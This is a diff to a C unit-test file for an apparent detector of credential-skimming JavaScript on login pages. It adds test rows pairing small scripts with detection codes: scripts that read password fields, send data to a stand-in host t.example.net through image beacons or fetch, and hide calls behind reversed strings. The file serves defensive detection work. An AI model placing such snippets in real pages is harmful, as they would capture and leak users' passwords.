@@ -90,6 +90,15 @@ static void the_password_is_read(void **state)
         { "x = gbid('language').value", "" },
         { "alert('Your password is out of date').value", "" },
         { "x = new FormData()", "" },
+        { "const v = s => document.querySelector(s)?.value ?? ''; x = v('#password')", "C1" },
+        { "function val(id) { return document.getElementById(id).value } x = val('password')",
+          "C1" },
+        { "x = val('password'); function val(id) { return gbid(id).value }", "C1" },
+        { "x = ['username', 'password'].map(i => gbid(i).value)", "C1" },
+        { "function f(n) { return $('#' + n).val() } x = f('password')", "C1" },
+        { "function val(id) { return gbid(id).value } x = val('username')", "" },
+        { "function val(id) { return gbid(id).value } alert('password')", "" },
+        { "function val(id) { return gbid(id).value } gbid('password').focus()", "" },
         { "// x = gbid('password').value", "" },
         { "/* x = gbid('password').value */ y()", "" },
         { "<!-- x = gbid('password').value", "" },
@@ -137,6 +146,9 @@ static void things_are_sent(void **state)
         { "axios.post(u)", "S1" },
         { "new ActiveXObject('Microsoft.XMLHTTP')", "S1" },
         { "new RTCPeerConnection(c)", "S1" },
+        { "const f = window.fetch.bind(window); f(u)", "S1" },
+        { "var f = fetch; f(u)", "S1" },
+        { "if (window.fetch) go()", "" },
         { "obj.fetch(u)", "" },
         { "new ActiveXObject('Mimectl.MimeCtl')", "" },
         { "x = $('#a').get(0)", "" },
@@ -151,6 +163,13 @@ static void things_are_sent(void **state)
         { "e.style.backgroundImage = 'url(' + u + ')'", "S2" },
         { "location.href = u + gbid('password').value", "C1 S2" },
         { "window.top.postMessage(gbid('password').value, '*')", "C1 S2" },
+        { "var p = ''; function go(p) { new Image().src = '//t.example.net?' + p }", "S2 S3" },
+        { "var s = document.createElement('script'); s.src = 'https://t.example.net/a.js'", "" },
+        { "X.url = 'https://t.example.net/a'; var l = document.createElement('link');"
+          "l.href = window.X.url",
+          "" },
+        { "X.url = u; var l = document.createElement('link'); l.href = X.url", "S2" },
+        { "navigator.serviceWorker.register('/sw.js')", "" },
         { "gbid('logo').src = '/owa/auth/logo.png'", "" },
         { "document.write('<meta name=\"viewport\" content=\"width=device-width\">')", "" },
         { "e.innerHTML = '<b>' + t + '</b>'", "" },
@@ -242,6 +261,10 @@ static void what_is_done_with_it(void **state)
         { "setTimeout('go()', 5)", "O1" },
         { "document.write(unescape(x))", "O1" },
         { "_0x1a2b[0]; _0x1a2b[1]; _0x3c('x')", "O1" },
+        { "window[r('hctef')](u)", "O1" },
+        { "document[d('x')][d('y')]", "O1" },
+        { "window[names[0]]()", "" },
+        { "list[next()]()", "" },
         { "setTimeout(function () { go() }, 5)", "" },
         { "retrieval(x); medieval = 1", "" },
     };
@@ -250,12 +273,49 @@ static void what_is_done_with_it(void **state)
     ALL(rows);
 }
 
+/* Scripts that are loaded from addresses that stand in the script are listed. */
+static void what_it_loads(void **state)
+{
+    static const struct {
+        const char *script, *loads;
+    } rows[] = {
+        { "var s = document.createElement('script'); s.src = '//t.example.net/a.js'",
+          "//t.example.net/a.js" },
+        { "var s = document.createElement('script'); s.setAttribute('src', '/a.js')", "/a.js" },
+        { "X.url = '/b'; var l = document.createElement('link'); l.href = window.X.url", "/b" },
+        { "navigator.serviceWorker.register('/sw.js')", "/sw.js" },
+        { "import('./m.js').then(f)", "./m.js" },
+        { "import m from './m.js'", "./m.js" },
+        { "import './m.js'", "./m.js" },
+        { "new Worker('/w.js')", "/w.js" },
+        { "importScripts('/w.js')", "/w.js" },
+        { "var i = new Image(); i.src = '/a.png'", "" },
+        { "form.register('/sw.js')", "" },
+        { "s.src = '/a.js'", "" },
+    };
+    const struct ex_script_task task = { .where = script_where };
+    unsigned bad = 0;
+
+    (void)state;
+    for (size_t i = 0; i < N_OF(rows); i++) {
+        struct ex_script_finds f;
+
+        ex_script_look(&walk, &task, ex_span_str(rows[i].script), &f);
+        if (f.n_loads == (rows[i].loads[0] != '\0') && strcmp(f.loads[0], rows[i].loads) == 0)
+            continue;
+        fprintf(stderr, "%s loads %u: %s\n", rows[i].script, f.n_loads, f.loads[0]);
+        bad++;
+    }
+    assert_int_equal(bad, 0);
+}
+
 static void flogon_itself(void **state)
 {
     static const struct row rows[] = {
         { "function clkLgn() { document.logonForm.submit(); }", "" },
         { "function clkLgn() { var p = gbid('password').value; document.logonForm.submit(); }",
           "C1 M1" },
+        { "function clkLgn() { var z = document[r('mroF')][r('eulav')]; }", "M1 O1" },
         { "function other() { var p = gbid('password').value; }", "C1" },
     };
 
@@ -301,10 +361,11 @@ static void vendors_templates(void **state)
 int main(void)
 {
     const struct CMUnitTest tests[] = {
-        cmocka_unit_test(the_password_is_read),  cmocka_unit_test(keys_are_captured),
-        cmocka_unit_test(things_are_sent),       cmocka_unit_test(where_it_goes),
-        cmocka_unit_test(what_is_done_with_it),  cmocka_unit_test(flogon_itself),
-        cmocka_unit_test(handlers_of_the_field), cmocka_unit_test(vendors_templates),
+        cmocka_unit_test(the_password_is_read), cmocka_unit_test(keys_are_captured),
+        cmocka_unit_test(things_are_sent),      cmocka_unit_test(where_it_goes),
+        cmocka_unit_test(what_is_done_with_it), cmocka_unit_test(what_it_loads),
+        cmocka_unit_test(flogon_itself),        cmocka_unit_test(handlers_of_the_field),
+        cmocka_unit_test(vendors_templates),
     };
 
     return cmocka_run_group_tests(tests, NULL, NULL);
